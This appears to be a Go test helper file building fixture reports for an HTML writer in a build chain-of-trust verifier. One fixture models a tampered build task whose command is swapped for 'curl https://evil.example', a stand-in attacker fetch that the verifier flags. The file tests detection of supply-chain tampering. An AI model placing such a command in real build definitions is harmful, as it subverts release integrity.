package html

import (
	"bytes"
	"fmt"
	"testing"
	"time"

	"github.com/mozilla-releng/cot/trace"
)

const (
	revision = "0123456789abcdef0123456789abcdef01234567"
	hex64    = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
)

func ptr[T any](v T) *T { return &v }

// id is a task id by its number.
func id(n int) string { return fmt.Sprintf("T%020dA", n) }

var noon = time.Date(2026, 8, 1, 12, 0, 0, 0, time.UTC)

// link is a task that holds.
func task(n int, name, kind, pool string) trace.Task {
	return trace.Task{
		TaskID: id(n), RunID: ptr(0), Name: name, Type: kind, Verdict: trace.Verified, Parent: id(0), Group: id(0),
		WorkerPool: pool, Implementation: "docker-worker", Status: "judged",
		Tree:   &trace.Tree{Repository: "https://hg.mozilla.org/mozilla-central", Revision: revision},
		Signer: &trace.Signer{Method: "key", Identity: "docker-worker", KeyID: hex64, SignedAt: ptr(noon), TimeSource: "queue"},
	}
}

func takes(t *trace.Task, n int, reason, artifact string, pinned bool) {
	t.Inputs = append(t.Inputs, trace.Input{TaskID: id(n), RunID: ptr(0), Reason: reason, Artifact: artifact, Pinned: pinned})
}

// good is a release's small chain: decision, image, toolchain, build, signing.
func good() *trace.Report {
	decision := task(0, "Gecko Decision Task", "decision", "gecko-3/decision")
	decision.Parent = ""
	image := task(1, "docker-image-debian12-amd64-build", "docker-image", "gecko-3/images")
	image.Image = &trace.Image{Name: "mozillareleases/image_builder:5.1.0"}
	toolchain := task(2, "toolchain-linux64-clang-19", "task", "gecko-3/b-linux")
	build := task(3, "build-linux64-shippable/opt", "task", "gecko-3/b-linux")
	signing := task(4, "build-signing-linux64-shippable/opt", "scriptworker", "scriptworker-k8s/gecko-3-signing")
	takes(&toolchain, 1, "docker-image", "public/image.tar.zst", true)
	takes(&build, 1, "docker-image", "public/image.tar.zst", true)
	takes(&build, 2, "fetch", "public/build/clang.tar.zst", false)
	takes(&signing, 3, "upstream-artifact", "public/build/target.tar.xz", true)
	build.Findings = []trace.Finding{{
		Rule: "input-unpinned", Severity: trace.SeverityWarning, Path: "/payload/env/MOZ_FETCHES",
		Message: "nothing shows which bytes of this input the task read", Got: "public/build/clang.tar.zst",
	}}
	build.Claims = []string{"/artifacts/public~1extra"}
	return &trace.Report{
		APIVersion: "cot/v1", Verdict: trace.Verified, Scope: trace.ScopeTree, Evidence: "live",
		Target: trace.Target{TaskID: id(4), RunID: ptr(0)}, RootURL: "https://tc.example.com", VerifiedAt: noon.Add(time.Hour),
		Policy: trace.PolicyInfo{Name: "firefox-ci", SHA256: hex64},
		Tasks:  []trace.Task{signing, build, toolchain, image, decision},
		Artifacts: []trace.Artifact{{
			TaskID: id(4), RunID: 0, Name: "public/build/target.tar.xz", SHA256: hex64, Bytes: 98_200_000, Hashed: true,
			Path: "fetches/target.tar.xz", Verdict: trace.Verified,
		}},
		Signers: []trace.SignerUse{
			{Method: "key", Identity: "docker-worker", KeyID: hex64, Tasks: 4},
			{Method: "certificate", Identity: "spiffe://tc.example.com/worker-pool/scriptworker-k8s/gecko-3-signing", KeyID: hex64, Certificate: hex64 + ":1a2b3c", NotAfter: ptr(noon.Add(12 * 24 * time.Hour)), Tasks: 1},
			{Method: "certificate", Identity: "spiffe://tc.example.com/worker-pool/gecko-3/images", KeyID: hex64, NotAfter: ptr(noon.Add(-time.Hour)), Tasks: 1},
		},
		Notes:   []string{"what a task's own script fetched is out of reach of this verification"},
		Summary: trace.Summary{Tasks: 5, Verified: 5, Unpinned: 1, Findings: 1},
	}
}

// refused is good with a build that its parent did not create like this.
func refused() *trace.Report {
	r := good()
	r.Verdict, r.Artifacts[0].Verdict = trace.Untrusted, trace.Untrusted
	r.Tasks[0].Verdict, r.Tasks[1].Verdict = trace.Untrusted, trace.Untrusted
	r.Tasks[1].Findings = append(r.Tasks[1].Findings, []trace.Finding{
		{
			Rule: "differs-from-task-graph", Severity: trace.SeverityError, Path: "/payload/env/MOZ_UPDATE_CHANNEL",
			Message: "the definition differs from its entry in the parent's task-graph.json", Want: "nightly", Got: "release",
		},
		{
			Rule: "differs-from-task-graph", Severity: trace.SeverityError, Path: "/payload/command",
			Message: "the definition differs from its entry in the parent's task-graph.json",
			Want:    []any{"/builds/worker/bin/run-task", "--gecko-checkout=/builds/worker/checkouts/gecko", "--", "build.sh"},
			Got:     []any{"/builds/worker/bin/run-task", "--gecko-checkout=/builds/worker/checkouts/gecko", "--", "curl", "https://evil.example"},
		},
		{
			Rule: "undeclared-dependency", Severity: trace.SeverityError, Path: "/dependencies/2",
			Message: "the task has a dependency that its entry lacks", Got: id(9),
		},
	}...)
	r.Tasks[2].Verdict = trace.Undetermined
	r.Tasks[2].Findings = []trace.Finding{{
		Rule: "evidence-unavailable", Severity: trace.SeverityError, Message: "public/chain-of-trust.json: server error (HTTP 503)", Heals: true,
	}}
	r.Summary = trace.Summary{Tasks: 5, Verified: 2, Untrusted: 2, Undetermined: 1, Findings: 5}
	return r
}

func accepted() *trace.Report {
	r := good()
	r.Verdict, r.Accepted = trace.Accepted, []string{"--accept-untrusted-tree"}
	r.Policy.Relaxed = []string{"signers.keys[0].workerPools"}
	for i := range r.Tasks {
		r.Tasks[i].Verdict = trace.Accepted
	}
	r.Tasks[4].Findings = []trace.Finding{{
		Rule: "untrusted-contribution", Severity: trace.SeverityWarning, Message: "the tree is a contribution",
		Got: "https://hg.mozilla.org/try", Accepted: "--accept-untrusted-tree",
	}}
	return r
}

// large is a graph of n tasks, with about five inputs each, of which some fail.
func large(n int) *trace.Report {
	r := good()
	r.Artifacts, r.Target = nil, trace.Target{Tasks: []string{id(3) + "/0", id(5) + "/0"}}
	r.Tasks = nil
	decision := task(0, "Gecko Decision Task", "decision", "gecko-3/decision")
	decision.Parent = ""
	r.Tasks = append(r.Tasks, decision)
	kinds := []struct{ name, kind, pool string }{
		{"docker-image", "docker-image", "gecko-3/images"},
		{"toolchain", "task", "gecko-3/b-linux"},
		{"build", "task", "gecko-3/b-linux"},
		{"test", "task", "gecko-t/t-linux"},
		{"test", "task", "gecko-t/t-linux"},
		{"test", "task", "gecko-t/t-win"},
		{"build-signing", "scriptworker", "scriptworker-k8s/gecko-3-signing"},
		{"repackage", "task", "gecko-3/b-linux"},
		{"beetmover", "scriptworker", "scriptworker-k8s/gecko-3-beetmover"},
		{"l10n", "task", "gecko-3/b-linux"},
	}
	for i := 1; i < n; i++ {
		at := i * len(kinds) / n
		k := kinds[at]
		t := task(i, fmt.Sprintf("%s-platform%d/opt-%05d", k.name, i%7, i), k.kind, k.pool)
		if i%3 == 0 {
			t.Parent, t.Group = id(0), id(n/2)
		}
		for j := range 5 {
			if to := (i * (j + 7) * 2654435761) % max(1, at*n/len(kinds)); to > 0 && to < i {
				takes(&t, to, "fetch", fmt.Sprintf("public/build/target-%d.tar.xz", j), j != 0)
			}
		}
		if len(t.Inputs) > 0 {
			t.Findings = append(t.Findings, trace.Finding{
				Rule: "input-unpinned", Severity: trace.SeverityWarning, Path: "/payload/env/MOZ_FETCHES",
				Message: "nothing shows which bytes of this input the task read", Got: t.Inputs[0].Artifact,
			})
		}
		if i%997 == 0 {
			t.Verdict = trace.Untrusted
			t.Findings = append(t.Findings, trace.Finding{
				Rule: "differs-from-task-graph", Severity: trace.SeverityError, Path: fmt.Sprintf("/payload/env/X%d", i),
				Message: "the definition differs from its entry in the parent's task-graph.json", Want: "a", Got: fmt.Sprint(i),
			})
			r.Verdict = trace.Untrusted
		}
		r.Tasks = append(r.Tasks, t)
	}
	return r
}

func written(t *testing.T, r *trace.Report) string {
	t.Helper()
	var b bytes.Buffer
	if err := Write(&b, r); err != nil {
		t.Fatal(err)
	}
	return b.String()
}
